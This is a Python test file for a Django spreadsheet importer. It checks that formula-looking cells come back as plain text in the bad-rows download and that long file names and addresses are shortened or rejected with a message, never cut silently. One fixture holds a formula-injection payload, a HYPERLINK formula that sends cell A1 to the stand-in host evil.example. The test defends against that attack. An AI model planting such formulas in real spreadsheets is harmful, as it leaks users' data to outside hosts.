"""What comes in through an import goes out as it was typed (issue 10, items 12 and 13): an uploaded
cell that looks like a formula is written back to the bad-rows workbook as text, never as a live
formula; and nothing is cut silently, neither the file's name nor a household's address."""

import io

import openpyxl
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.models import AccessLog, Household, ImportJob, Person
from tests.core.test_import import HEADERS, row, upload, xlsx
from tests.factories import make_id_number

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def typed_xlsx(rows, headers=HEADERS, name="people.xlsx") -> SimpleUploadedFile:
    """An upload whose cells hold the text as typed: "=…" stays text (openpyxl would save a formula)."""
    wb = openpyxl.Workbook()
    ws = wb.active
    for values in [headers, *rows]:
        ws.append(values)
    for line in ws.iter_rows():
        for cell in line:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile(name, buf.getvalue())


def test_bad_rows_download_writes_uploaded_formulas_back_as_text(officer, client_for):
    client = client_for(officer)
    headers = [*HEADERS, "=1+1"]  # a column the importer does not know is written back too
    rows = [[*row(FORMULA, "3505831"), "@SUM(A1:A9)"], [*row("林秀英", "3505832"), "-2+3"]]
    upload(client, typed_xlsx(rows, headers))
    job = ImportJob.objects.get()
    assert job.state == ImportJob.State.REJECTED
    response = client.get(reverse("core:import_bad_rows", args=[job.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell.data_type for line in sheet.iter_rows() for cell in line if cell.value is not None}
    for text in (FORMULA, "=1+1", "@SUM(A1:A9)", "-2+3"):
        assert cells.get(text) == "s", (text, cells.get(text))


def test_a_file_name_longer_than_the_job_holds_keeps_its_start_and_extension_and_says_so(officer, client_for):
    name = "南安市洪濑镇" + "人员名单" * 55 + "（第二批）.xlsx"
    assert 200 < len(name) <= 255  # longer than 255 never arrives: Django shortens it on upload
    response = upload(client_for(officer), _named(name))
    job = ImportJob.objects.get()
    assert len(job.original_name) == 200
    assert job.original_name.startswith("南安市洪濑镇人员名单") and job.original_name.endswith("….xlsx")
    assert job.state == ImportJob.State.DONE
    page = response.content.decode()
    assert "文件名过长" in page and f"{len(name)} 个字" in page
    # The name as uploaded is kept in the access log of the import.
    assert AccessLog.objects.get(action=AccessLog.Action.IMPORT).detail == name


def test_a_file_name_the_job_holds_is_kept_as_it_is(officer, client_for):
    name = "人" * 195 + ".xlsx"
    response = upload(client_for(officer), _named(name))
    assert ImportJob.objects.get().original_name == name
    assert "文件名过长" not in response.content.decode()


def _named(name) -> SimpleUploadedFile:
    good = xlsx([row("陈志明", make_id_number())])
    return SimpleUploadedFile(name, good.read(), content_type=good.content_type)


def test_an_address_longer_than_a_household_holds_is_a_row_error_and_nothing_is_saved(officer, client_for):
    head, spouse = make_id_number(), make_id_number(male=False)
    address = "洪濑镇" + "示例路" * 66  # 201 characters
    rows = [
        row("陈志明", head, head=head, relation="户主", 住址=address),
        row("林秀英", spouse, head=head, relation="配偶"),
    ]
    response = upload(client_for(officer), xlsx(rows))
    job = ImportJob.objects.get()
    assert job.state == ImportJob.State.REJECTED
    assert job.errors == [{"row": 2, "column": "住址", "message": "不能超过 200 个字（现有 201 个）。"}]
    assert not Person.objects.exists() and not Household.objects.exists()
    assert "不能超过 200 个字（现有 201 个）" in response.content.decode()


def test_an_address_the_household_holds_is_saved_whole(officer, client_for):
    head = make_id_number()
    address = "洪濑镇" + "示例路" * 65 + "1号"  # 200 characters
    upload(client_for(officer), xlsx([row("陈志明", head, head=head, relation="户主", 住址=address)]))
    assert Household.objects.get().address == address


def test_the_reader_keeps_a_row_filled_outside_the_importers_columns_and_skips_blank_ones():
    """Only the importer's columns are turned into text, but a row is data if any of its cells is
    filled: a row typed only under a column the importer does not know still reaches the checks
    (and is named there), while rows of empty or blank cells are not rows at all."""
    from core.importers import PEOPLE_IMPORTER
    from core.imports import read_rows

    headers = [*HEADERS, "备注"]
    people = [
        ["张三", " 350583199001011234 ", "", "洪濑镇", "", "", "", "", "", "", "", ""],
        ["", "", "", "", "", "", "", "", "", "", "", "只填了备注"],
        ["", "   ", None, "", "", "", "", "", "", "", "", "  "],
        [None, None, None, None, None, None, None, None, None, None, None, 2024],
    ]
    rows = read_rows(io.BytesIO(typed_xlsx(people, headers=headers).read()), PEOPLE_IMPORTER)
    assert [r.number for r in rows] == [2, 3, 5]
    assert rows[0].values["id_number"] == "350583199001011234"
    assert rows[0].values["name"] == "张三" and rows[0].values["phone"] is None
    assert all(value is None for value in rows[1].values.values())
